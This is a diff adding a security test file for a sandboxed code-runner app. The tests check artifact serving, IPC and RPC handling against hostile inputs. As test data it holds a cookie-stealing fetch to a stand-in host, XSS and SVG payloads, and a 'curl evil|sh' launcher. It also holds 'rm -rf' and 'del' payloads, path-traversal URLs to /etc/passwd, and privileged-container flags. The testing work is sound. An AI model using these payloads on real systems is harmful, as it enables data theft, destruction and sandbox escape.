@@ -1,0 +1,505 @@
+// SECURITY-CASES.md group H (#42–#49): what the renderer and the host UI are handed. Tested here
+// without Electron (not installed on this machine): the HTTP artifact route the browser renderer
+// uses, the Electron artifact-protocol resolver and IPC binding as plain modules, the renderer's
+// text helpers. What needs Electron's binary or a browser is skipped with the reason.
+import fs from 'node:fs'
+import path from 'node:path'
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { createHandlers } from '../../src/main/app-api'
+import { resolveArtifactUrl } from '../../src/main/electron/artifact-protocol'
+import { bindIpc, CALL_CHANNEL, type IpcMainLike } from '../../src/main/electron/ipc-binding'
+import { stripAnsi } from '../../src/renderer/src/format'
+import { ROOT, request } from '../integration/helpers'
+import {
+  artifactPath,
+  expectAftermath,
+  expectHardened,
+  hostGuard,
+  makeCanary,
+  MiB,
+  py,
+  rawGet,
+  run,
+  startSecure,
+  stopSecure,
+  warmReady,
+  type Canary,
+  type Ctx,
+  type ExecuteBody,
+} from './harness'
+
+let ctx: Ctx
+let canary: Canary
+
+beforeAll(async () => {
+  canary = makeCanary()
+  ctx = await startSecure()
+})
+
+afterAll(async () => {
+  await stopSecure(ctx)
+  fs.rmSync(canary.dir, { recursive: true, force: true })
+})
+
+/** Writes each `{name: content}` into /output. */
+function writes(files: Record<string, string>): string {
+  return py(
+    'import json, os',
+    `files = json.loads(${JSON.stringify(JSON.stringify(files))})`,
+    'for name, content in files.items():',
+    '    os.makedirs(os.path.dirname("/output/" + name), exist_ok=True)',
+    '    open("/output/" + name, "w").write(content)',
+  )
+}
+
+/** The CSP every artifact response carries: a sandbox with no allow-* tokens, nothing loads. */
+function expectSandboxed(res: Response): void {
+  const csp = res.headers.get('content-security-policy') ?? ''
+  expect(csp.split(';').map((d) => d.trim())).toEqual(
+    expect.arrayContaining(['sandbox', "default-src 'none'"]),
+  )
+  expect(csp).not.toMatch(/allow-|script-src|unsafe-eval/)
+  expect(res.headers.get('x-content-type-options')).toBe('nosniff')
+  expect(res.headers.get('access-control-allow-origin')).toBeNull()
+}
+
+const HTML = [
+  '<!doctype html><title>x</title>',
+  "<script>fetch('https://x.example/steal?c='+document.cookie);parent.postMessage('pwned','*')</script>",
+  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+  '<form action="https://evil.example/post" method="post"><input name="q" value="1"></form>',
+  '<iframe src="file:///etc/passwd"></iframe><a href="javascript:alert(1)" target="_blank">x</a>',
+].join('\n')
+
+const SVG =
+  '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script>' +
+  '<foreignObject><iframe src="javascript:alert(3)"></iframe></foreignObject></svg>'
+
+class FakeIpc implements IpcMainLike {
+  readonly handlers = new Map<
+    string,
+    (
+      event: { sender: unknown; senderFrame?: { url: string } | null },
+      ...args: unknown[]
+    ) => unknown
+  >()
+  handle(
+    channel: string,
+    listener: (
+      event: { sender: unknown; senderFrame?: { url: string } | null },
+      ...args: unknown[]
+    ) => unknown,
+  ): void {
+    this.handlers.set(channel, listener)
+  }
+  removeHandler(channel: string): void {
+    this.handlers.delete(channel)
+  }
+}
+
+/** Reads a finished job's server-sent events into `{event, data}` pairs. */
+async function events(id: string): Promise<{ event: string; data: Record<string, unknown> }[]> {
+  const res = await fetch(`${ctx.srv.url}/jobs/${id}/events`)
+  const text = await res.text()
+  const out: { event: string; data: Record<string, unknown> }[] = []
+  for (const block of text.split('\n\n')) {
+    const lines = block.split('\n')
+    const event = lines.find((l) => l.startsWith('event: '))?.slice(7)
+    const data = lines.find((l) => l.startsWith('data: '))?.slice(6)
+    if (event && data) out.push({ event, data: JSON.parse(data) as Record<string, unknown> })
+  }
+  return out
+}
+
+describe('H. renderer and host UI', () => {
+  it('#42 an HTML artifact with script, refresh and form is served as a sandboxed attachment, byte for byte', async () => {
+    const guard = hostGuard(canary)
+    const r = await run(ctx, { code: writes({ 'page.html': HTML }) })
+    expect(r.status, r.stderr).toBe('succeeded')
+    expect(r.artifacts).toEqual([
+      expect.objectContaining({ name: 'page.html', content_type: 'text/html' }),
+    ])
+    const download = await fetch(`${ctx.srv.url}${artifactPath(r.execution_id, 'page.html')}`)
+    expect(download.status).toBe(200)
+    expect(download.headers.get('content-type')).toBe('text/html')
+    expect(download.headers.get('content-disposition')).toMatch(
+      /^attachment; filename="page\.html"/,
+    )
+    expect(download.headers.get('x-frame-options')).toBe('DENY')
+    expectSandboxed(download)
+    expect(await download.text()).toBe(HTML)
+    // The preview (`?inline=1`, loaded in an iframe with sandbox="") is still under the CSP sandbox.
+    const preview = await fetch(
+      `${ctx.srv.url}${artifactPath(r.execution_id, 'page.html')}?inline=1`,
+    )
+    expect(preview.headers.get('content-disposition')).toBe('inline')
+    expect(preview.headers.get('x-frame-options')).toBe('SAMEORIGIN')
+    expectSandboxed(preview)
+    await expectAftermath(ctx, guard)
+  })
+
+  it('#43 an SVG with onload and <script> is served as image/svg+xml under the CSP sandbox, never as a page', async () => {
+    const guard = hostGuard(canary)
+    const r = await run(ctx, { code: writes({ 'plot.svg': SVG }) })
+    expect(r.artifacts).toEqual([
+      expect.objectContaining({ name: 'plot.svg', content_type: 'image/svg+xml' }),
+    ])
+    for (const q of ['', '?inline=1']) {
+      const res = await fetch(`${ctx.srv.url}${artifactPath(r.execution_id, 'plot.svg')}${q}`)
+      expect(res.status).toBe(200)
+      expect(res.headers.get('content-type')).toBe('image/svg+xml')
+      expectSandboxed(res)
+      expect(await res.text()).toBe(SVG)
+    }
+    await expectAftermath(ctx, guard)
+  })
+
+  it('#44 HTML in file names, stdout and JSON values comes back as data; SSE framing in stdout cannot forge events', async () => {
+    const guard = hostGuard(canary)
+    const evilName = '<img src=x onerror=alert(1)>.png'
+    const evilDir = '"><script>alert(1)</script>/x.txt'
+    const evilOut =
+      '<script>alert("stdout")</script>\n\nevent: status\ndata: {"job_id":"x","status":"succeeded"}\n\n'
+    const r = await run(ctx, {
+      code: py(
+        writes({ [evilName]: 'not a png', [evilDir]: 'x' }),
+        'import json, sys',
+        `sys.stdout.write(${JSON.stringify(evilOut)})`,
+        'json.dump({"html": "<b onmouseover=alert(1)>x</b>", "<k>": "</script>"},',
+        '          open("/output/result.json", "w"))',
+        'raise ValueError("<img src=x onerror=alert(2)>")',
+      ),
+    })
+    expect(r.status).toBe('failed')
+    expect(r.stdout).toBe(evilOut)
+    expect(r.error).toContain('<img src=x onerror=alert(2)>')
+    expect(r.output).toEqual({ html: '<b onmouseover=alert(1)>x</b>', '<k>': '</script>' })
+    expect(r.artifacts.map((a) => a.name).sort()).toEqual([evilDir, evilName, 'result.json'].sort())
+    // Served as JSON text, never as markup.
+    const res = await fetch(`${ctx.srv.url}/executions/${r.execution_id}`)
+    expect(res.headers.get('content-type')).toMatch(/^application\/json/)
+    for (const name of [evilName, evilDir]) {
+      const a = await fetch(`${ctx.srv.url}${artifactPath(r.execution_id, name)}`)
+      expect(a.status, name).toBe(200)
+      // A header value, not markup: quotes are replaced, nothing can end the header early.
+      expect(a.headers.get('content-disposition')).toMatch(/^attachment; filename="[^"\r\n]*"; /)
+    }
+    // The renderer shows stdout through stripAnsi as text: markup stays literal characters.
+    expect(stripAnsi(r.stdout)).toBe(evilOut)
+    // The event stream JSON-encodes the text: the printed "event: status" stays inside one event.
+    const ev = await events(r.execution_id)
+    expect(ev.filter((e) => e.event === 'stdout').map((e) => e.data.text)).toEqual([evilOut])
+    expect(ev.filter((e) => e.event === 'status').map((e) => e.data.status)).toEqual([
+      'queued',
+      'running',
+      'failed',
+    ])
+    await expectAftermath(ctx, guard)
+  })
+
+  it.skip('#45 will-navigate is blocked and setWindowOpenHandler denies (external https only after a confirm): needs Electron’s binary, not installed here — the handlers live in src/main/index.ts', () => {})
+
+  it('#46 .exe, .bat, .js, .desktop, .command, .lnk, .app and .sh artifacts are only ever downloads (octet-stream, attachment)', async () => {
+    const guard = hostGuard(canary)
+    const files: Record<string, string> = {
+      'setup.exe': 'MZ\u0090\u0000 this program cannot be run in DOS mode',
+      'run.bat': '@echo off\r\ndel /q C:\\*\r\n',
+      'wsh.js': 'WScript.Shell.Run("calc")',
+      'app.desktop': '[Desktop Entry]\nType=Application\nExec=sh -c "curl evil|sh"\n',
+      'x.command': '#!/bin/sh\nrm -rf ~\n',
+      'link.lnk': 'L\u0000\u0000\u0000',
+      'Evil.app/Contents/MacOS/Evil': '#!/bin/sh\nid\n',
+      'tool.sh': '#!/bin/sh\necho hi\n',
+    }
+    const r = await run(ctx, {
+      code: py(
+        writes(files),
+        'os.chmod("/output/tool.sh", 0o755)',
+        'os.chmod("/output/x.command", 0o4755)',
+      ),
+    })
+    expect(r.status, r.stderr).toBe('succeeded')
+    expect(r.artifacts.map((a) => a.name).sort()).toEqual(Object.keys(files).sort())
+    for (const a of r.artifacts) {
+      expect(a.content_type, a.name).toBe('application/octet-stream')
+      const res = await fetch(`${ctx.srv.url}${artifactPath(r.execution_id, a.name)}`)
+      expect(res.status).toBe(200)
+      expect(res.headers.get('content-type')).toBe('application/octet-stream')
+      expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="/)
+      expectSandboxed(res)
+    }
+    // No set-id bit survives on the host copy the user might "show in folder".
+    const dir = ctx.srv.core.store.artifactsDir(r.execution_id)
+    expect(fs.statSync(path.join(dir, 'x.command')).mode & 0o7777).toBe(0o755)
+    await expectAftermath(ctx, guard)
+  })
+
+  it('#46 the shell never hands an artifact to the OS: openPath opens only the data folder or a run’s folder, openExternal only https after a confirm', async () => {
+    const main = fs.readFileSync(path.join(ROOT, 'src/main/index.ts'), 'utf8')
+    expect([...main.matchAll(/shell\.openPath\(([^)]*)\)/g)].map((m) => m[1]).sort()).toEqual([
+      'core.store.dataDir',
+      'folder',
+    ])
+    expect(main).toContain('revealFolder: (folder) => void shell.openPath(folder)')
+    expect([...main.matchAll(/shell\.openExternal\(([^)]*)\)/g)].map((m) => m[1])).toEqual(['url'])
+    expect(main).toMatch(
+      /if \(isSafeExternal\(url\)\)[\s\S]*showMessageBox[\s\S]*shell\.openExternal\(url\)/,
+    )
+    expect(main).toMatch(/return \{ action: 'deny' \}/)
+    for (const f of fs.readdirSync(path.join(ROOT, 'src/preload'))) {
+      const text = fs.readFileSync(path.join(ROOT, 'src/preload', f), 'utf8')
+      expect(text, f).not.toMatch(/\bshell\b|openPath|openExternal|require\(['"](fs|child_process)/)
+    }
+    // "Show folder" (runs:reveal) is given a run id, never a path, and opens that run's own folder.
+    const r = await run(ctx, { code: writes({ 'evil.desktop': '[Desktop Entry]\nExec=id\n' }) })
+    const opened: string[] = []
+    const handlers = createHandlers(ctx.srv.core, { revealFolder: (f) => opened.push(f) })
+    const ipc = new FakeIpc()
+    const off = bindIpc(ipc, handlers, () => true)
+    const call = ipc.handlers.get(CALL_CHANNEL)!
+    try {
+      expect(await call({ sender: 1 }, 'runs:reveal', { id: r.execution_id })).toMatchObject({
+        ok: true,
+      })
+      for (const args of [
+        { id: '../..' },
+        { id: `${r.execution_id}/artifacts/evil.desktop` },
+        { id: r.execution_id, path: 'artifacts/evil.desktop' },
+        { id: 'no-such-run' },
+      ]) {
+        expect(
+          (await call({ sender: 1 }, 'runs:reveal', args)) as { ok: boolean },
+          JSON.stringify(args),
+        ).toMatchObject({ ok: false })
+      }
+    } finally {
+      off()
+    }
+    expect(opened).toEqual([ctx.srv.core.store.runDir(r.execution_id)])
+    expect(fs.lstatSync(opened[0]).isDirectory()).toBe(true)
+    await expectAftermath(ctx)
+  })
+
+  it.skip('#46 "Open artifact" confirmation and realpath-before-extension check in the Electron shell: needs Electron’s binary (not installed); the app offers no open action for artifacts, only Save', () => {})
+
+  it('#47 the artifact protocol and the HTTP route refuse traversal, absolute paths, encodings, unlisted files and links planted after indexing', async () => {
+    const guard = hostGuard(canary)
+    const r = await run(ctx, { code: writes({ 'a.txt': 'A', 'sub/b.png': 'B', 'sub/c.txt': 'C' }) })
+    const id = r.execution_id
+    const store = ctx.srv.core.store
+    const ok = resolveArtifactUrl(store, `tako-artifact://run/${id}/sub/b.png`)
+    expect(ok).toMatchObject({ ok: true, contentType: 'image/png' })
+    const dir = fs.realpathSync(store.artifactsDir(id))
+    if (ok.ok) expect(ok.file).toBe(path.join(dir, 'sub', 'b.png'))
+    const hostile = [
+      `tako-artifact://run/${id}/../../secret.txt`,
+      `tako-artifact://run/${id}/%2e%2e/%2e%2e/run.json`,
+      `tako-artifact://run/${id}/sub%2F..%2F..%2Fmain.py`,
+      `tako-artifact://run/${id}/%2Fetc%2Fpasswd`,
+      `tako-artifact://run/${id}/sub%5C..%5Ca.txt`,
+      `tako-artifact://run/${id}/a.txt%00.png`,
+      `tako-artifact://run/${id}/main.py`,
+      `tako-artifact://run/${id}/run.json`,
+      `tako-artifact://run/..%2F..%2Fetc/passwd`,
+      `tako-artifact://run/${encodeURIComponent(canary.dir)}/secret.txt`,
+      `tako-artifact://other/${id}/a.txt`,
+      `file://${canary.file}`,
+      'not a url',
+    ]
+    for (const url of hostile) expect(resolveArtifactUrl(store, url).ok, url).toBe(false)
+    for (const raw of [
+      `/jobs/${id}/artifacts/../../../../etc/passwd`,
+      `/jobs/${id}/artifacts/%2e%2e/%2e%2e/run.json`,
+      `/jobs/${id}/artifacts/sub/%2e%2e/%2e%2e/main.py`,
+      `/jobs/${id}/artifacts/%2Fetc%2Fpasswd`,
+      `/jobs/${id}/artifacts//etc/passwd`,
+      `/jobs/${id}/artifacts/sub%5C..%5Ca.txt`,
+      `/jobs/${id}/artifacts/a.txt%00`,
+      `/jobs/${id}/artifacts/main.py`,
+      `/jobs/..%2F..%2F..%2Fetc/artifacts/passwd`,
+    ]) {
+      const res = await rawGet(ctx.srv.url, raw)
+      expect([400, 404], raw).toContain(res.status)
+      expect(res.body.toString()).not.toMatch(/root:x:0:0|"status"|print/)
+    }
+    // Links planted after the run was indexed (by anything with access to the folder).
+    fs.rmSync(path.join(dir, 'a.txt'))
+    fs.symlinkSync(canary.file, path.join(dir, 'a.txt'))
+    fs.rmSync(path.join(dir, 'sub'), { recursive: true })
+    fs.symlinkSync(canary.dir, path.join(dir, 'sub'))
+    fs.writeFileSync(path.join(canary.dir, 'b.png'), canary.secret)
+    try {
+      expect(resolveArtifactUrl(store, `tako-artifact://run/${id}/a.txt`)).toMatchObject({
+        ok: false,
+        status: 400,
+      })
+      expect(resolveArtifactUrl(store, `tako-artifact://run/${id}/sub/b.png`)).toMatchObject({
+        ok: false,
+        status: 400,
+      })
+      for (const name of ['a.txt', 'sub/b.png']) {
+        const res = await rawGet(ctx.srv.url, artifactPath(id, name))
+        expect(res.status, name).toBe(400)
+        expect(res.body.toString()).not.toContain(canary.secret)
+      }
+    } finally {
+      fs.rmSync(path.join(canary.dir, 'b.png'))
+    }
+    await expectAftermath(ctx, guard)
+  })
+
+  describe('#48 IPC and RPC abuse', () => {
+    const hostile: [string, Record<string, unknown>][] = [
+      ['HostConfig', { HostConfig: { Privileged: true, Binds: ['/:/h'] } }],
+      ['Privileged', { Privileged: true }],
+      ['Binds', { Binds: ['/:/host:rw'] }],
+      ['Image/Cmd', { Image: 'alpine', Cmd: ['sh'] }],
+      ['User root', { User: '0:0' }],
+      ['NetworkMode', { NetworkMode: 'host' }],
+      ['limits.Privileged', { limits: { timeoutS: 5, Privileged: true } }],
+      ['limits.CapAdd', { limits: { CapAdd: ['SYS_ADMIN'] } }],
+      ['__proto__', JSON.parse('{"__proto__": {"Privileged": true}}') as Record<string, unknown>],
+    ]
+    const base = { code: 'print(1)', input: {}, environment: 'default' }
+
+    it.each(hostile)(
+      'POST /api/rpc/runs:start with %s is refused by the schema; nothing runs',
+      async (_label, extra) => {
+        expect(JSON.stringify(extra)).not.toBe('{}')
+        const guard = hostGuard(canary)
+        const runs = ctx.srv.core.store.all().length
+        const created = ctx.client.runContainers().length
+        const res = await request<{ ok: boolean; error?: { code: string; message: string } }>(
+          `${ctx.srv.url}/api/rpc/runs:start`,
+          {
+            method: 'POST',
+            headers: { 'content-type': 'application/json' },
+            // Raw text, so a "__proto__" key reaches the server as JSON.parse keeps it.
+            body: JSON.stringify({ ...base, ...extra }),
+          },
+        )
+        expect(res.status).toBe(200)
+        expect(res.body).toMatchObject({ ok: false, error: { code: 'invalid_argument' } })
+        expect(res.body.error?.message).toMatch(/Unrecognized key/i)
+        expect(ctx.srv.core.store.all().length).toBe(runs)
+        expect(ctx.client.runContainers().length).toBe(created)
+        await expectAftermath(ctx, guard)
+      },
+    )
+
+    it('custom "environment" strings cannot smuggle flags or pull an image; unknown methods are refused', async () => {
+      const runs = ctx.srv.core.store.all().length
+      for (const environment of [
+        'alpine',
+        'default --privileged',
+        '-v /:/h default',
+        'tako-vm/default:latest; rm -rf /',
+        '../../etc',
+      ]) {
+        const res = await request<{ ok: boolean; error?: { code: string } }>(
+          `${ctx.srv.url}/api/rpc/runs:start`,
+          { method: 'POST', json: { ...base, environment } },
+        )
+        expect(res.body.ok, environment).toBe(false)
+        expect(res.body.error?.code, environment).toMatch(/^(http_422|invalid_argument)$/)
+      }
+      for (const method of ['docker:exec', 'constructor', '__proto__', 'runs:start/../x']) {
+        const res = await request<{ ok: boolean; error?: { code: string } }>(
+          `${ctx.srv.url}/api/rpc/${encodeURIComponent(method)}`,
+          { method: 'POST', json: {} },
+        )
+        expect(res.body.ok === false || res.status === 404, method).toBe(true)
+      }
+      expect(ctx.srv.core.store.all().length).toBe(runs)
+      await expectAftermath(ctx)
+    })
+
+    it('the IPC binding refuses unknown senders and artifact frames, rejects hostile fields, and runs a valid call hardened', async () => {
+      const guard = hostGuard(canary)
+      const ipc = new FakeIpc()
+      const window = { id: 'our-window' }
+      // As src/main/index.ts: our window only, and never a frame showing an artifact.
+      const off = bindIpc(ipc, createHandlers(ctx.srv.core), (sender, frameUrl) => {
+        return (
+          sender === window && (frameUrl === undefined || !frameUrl.startsWith('tako-artifact:'))
+        )
+      })
+      const call = ipc.handlers.get(CALL_CHANNEL)!
+      const runs = ctx.srv.core.store.all().length
+      try {
+        const forbidden = {
+          ok: false,
+          error: { code: 'forbidden', message: 'IPC from an unknown sender was refused' },
+        }
+        expect(await call({ sender: { id: 'devtools' } }, 'runs:start', base)).toEqual(forbidden)
+        expect(
+          await call(
+            { sender: window, senderFrame: { url: 'tako-artifact://run/x/page.html' } },
+            'runs:start',
+            base,
+          ),
+        ).toEqual(forbidden)
+        for (const [, extra] of hostile) {
+          expect(await call({ sender: window }, 'runs:start', { ...base, ...extra })).toMatchObject(
+            {
+              ok: false,
+              error: { code: 'invalid_argument' },
+            },
+          )
+        }
+        expect(await call({ sender: window }, 'docker:exec', {})).toMatchObject({
+          ok: false,
+          error: { code: 'unknown_method' },
+        })
+        expect(ctx.srv.core.store.all().length).toBe(runs)
+        await warmReady(ctx)
+        const started = (await call({ sender: window }, 'runs:start', {
+          ...base,
+          code: 'import os; print(os.getuid() != 0)',
+        })) as { ok: boolean; value: { id: string } }
+        expect(started.ok).toBe(true)
+        const rec = await ctx.srv.core.jobs.wait(started.value.id)
+        expect(rec?.status).toBe('succeeded')
+        expect(ctx.srv.core.store.readText(started.value.id, 'stdout.txt')).toBe('True\n')
+      } finally {
+        off()
+      }
+      for (const c of ctx.client.created) expectHardened(c)
+      await expectAftermath(ctx, guard)
+    })
+  })
+
+  it('#49 1 MiB+ of stdout and 10 000 artifacts: the API and the app’s RPC answer promptly with capped output', async () => {
+    const guard = hostGuard(canary)
+    const t0 = performance.now()
+    const r: ExecuteBody = await run(ctx, {
+      code: py(
+        'import os, sys',
+        'for i in range(10000):',
+        '    open(f"/output/f{i:05d}.txt", "w").write(str(i))',
+        'for i in range(3 * 1024):',
+        '    sys.stdout.write(f"{i:06d} " + "o" * 1017 + "\\n")',
+      ),
+      timeout: 120,
+    })
+    expect(r.status, r.stderr).toBe('succeeded')
+    expect(r.artifacts).toHaveLength(10_000)
+    expect(r.stdout_truncated).toBe(true)
+    expect(Buffer.byteLength(r.stdout)).toBeLessThan(MiB + 200)
+    expect(performance.now() - t0).toBeLessThan(60_000)
+    const t1 = performance.now()
+    const detail = await request<{ ok: boolean; value: { stdout: string; artifacts: unknown[] } }>(
+      `${ctx.srv.url}/api/rpc/runs:get`,
+      { method: 'POST', json: { id: r.execution_id } },
+    )
+    expect(detail.body.ok).toBe(true)
+    expect(detail.body.value.artifacts).toHaveLength(10_000)
+    expect(Buffer.byteLength(detail.body.value.stdout)).toBeLessThan(MiB + 200)
+    const full = await request(`${ctx.srv.url}/executions/${r.execution_id}?view=full`)
+    expect(full.status).toBe(200)
+    expect(performance.now() - t1).toBeLessThan(5_000)
+    await expectAftermath(ctx, guard)
+  })
+
+  it.skip('#49 UI frame time with 1 MiB of output and 10 000 artifacts: needs a browser-driven test (the e2e project); note the artifact list renders every entry (not virtualised)', () => {})
+})
